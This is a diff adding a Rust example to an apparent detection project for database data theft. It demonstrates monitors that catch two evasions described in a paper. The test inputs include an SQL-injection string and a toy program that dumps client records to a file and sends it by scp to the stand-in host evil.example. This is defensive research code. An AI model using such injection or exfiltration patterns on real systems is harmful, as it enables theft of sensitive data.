@@ -1,0 +1,132 @@
+//! The §VII evasions and their mitigations.
+//!
+//! The paper is candid about two attacks its core system cannot see:
+//!
+//! 1. a rewritten query with the *same selectivity* (the call sequence is
+//!    unchanged), and
+//! 2. storing the TD to a file and sending the file out later.
+//!
+//! It sketches the fixes — record query signatures, label TD-bearing files
+//! — and this example demonstrates both, implemented as monitors over the
+//! extended event stream.
+//!
+//! ```text
+//! cargo run --release --example evasion_mitigations
+//! ```
+
+use adprom::analysis::analyze;
+use adprom::client::ClientSession;
+use adprom::core::{
+    build_profile, ConstructorConfig, DetectionEngine, FileLabelMonitor, QuerySignatureMonitor,
+};
+use adprom::lang::parse_program;
+use adprom::trace::{run_program, ExecConfig, TraceCollector};
+use adprom::workloads::{banking, TestCase};
+
+fn main() {
+    let config = ExecConfig {
+        extended_events: true,
+        ..ExecConfig::default()
+    };
+
+    // ---- Evasion 1: selectivity mimicry --------------------------------
+    println!("== evasion 1: same-selectivity query rewrite ==\n");
+    let workload = banking::workload(40, 77);
+    let analysis = analyze(&workload.program);
+    let traces: Vec<_> = workload
+        .test_cases
+        .iter()
+        .map(|case| {
+            let mut session = ClientSession::connect((workload.make_db)());
+            let mut collector = TraceCollector::new();
+            run_program(
+                &workload.program,
+                &mut session,
+                &case.inputs,
+                &analysis.site_labels,
+                &mut collector,
+                &config,
+            )
+            .expect("training case runs");
+            collector.into_events()
+        })
+        .collect();
+    let (profile, _) = build_profile(
+        "App_b",
+        &analysis,
+        &traces,
+        &ConstructorConfig::default(),
+    );
+    let engine = DetectionEngine::new(&profile);
+    let signatures = QuerySignatureMonitor::learn(&traces);
+    println!("learned {} query signatures from training", signatures.len());
+
+    // `105' AND '1'='1` returns exactly one row — same call sequence as a
+    // benign lookup.
+    let mimic = TestCase::new(
+        "mimicry",
+        vec!["1".into(), "105' AND '1'='1".into(), "0".into()],
+    );
+    let mut session = ClientSession::connect((workload.make_db)());
+    let mut collector = TraceCollector::new();
+    run_program(
+        &workload.program,
+        &mut session,
+        &mimic.inputs,
+        &analysis.site_labels,
+        &mut collector,
+        &config,
+    )
+    .expect("mimicry case runs");
+    let trace = collector.into_events();
+
+    println!("base detector verdict:     {}", engine.verdict(&trace));
+    let alerts = signatures.scan(&trace);
+    println!("signature monitor alerts:  {}", alerts.len());
+    for a in &alerts {
+        println!("  unseen signature from `{}`: {}", a.caller, a.subject);
+    }
+    assert!(!alerts.is_empty());
+
+    // ---- Evasion 2: file-then-network exfiltration ---------------------
+    println!("\n== evasion 2: store the TD to a file, ship the file ==\n");
+    let exfil = parse_program(
+        r#"
+        fn main() {
+            let r = PQexec(conn, "SELECT * FROM clients");
+            let n = PQntuples(r);
+            let f = fopen("backup.dat", "w");
+            for (let i = 0; i < n; i = i + 1) {
+                fprintf(f, "%s\n", PQgetvalue(r, i, 1));
+            }
+            fclose(f);
+            system("scp backup.dat drop@evil.example:/loot/");
+        }
+        "#,
+    )
+    .expect("parses");
+    let exfil_analysis = analyze(&exfil);
+    let mut session = ClientSession::connect(banking::make_db());
+    let mut collector = TraceCollector::new();
+    run_program(
+        &exfil,
+        &mut session,
+        &[],
+        &exfil_analysis.site_labels,
+        &mut collector,
+        &config,
+    )
+    .expect("exfiltration program runs");
+
+    let mut files = FileLabelMonitor::new();
+    files.scan(collector.events());
+    println!(
+        "labeled files: {:?}",
+        files.labeled_files().collect::<Vec<_>>()
+    );
+    for a in files.alerts() {
+        println!("ALERT [{:?}] `{}` touched a labeled file: {}", a.kind, a.call, a.subject);
+    }
+    assert_eq!(files.alerts().len(), 1);
+    println!("\nDone: both §VII evasions are caught by the extension monitors.");
+}
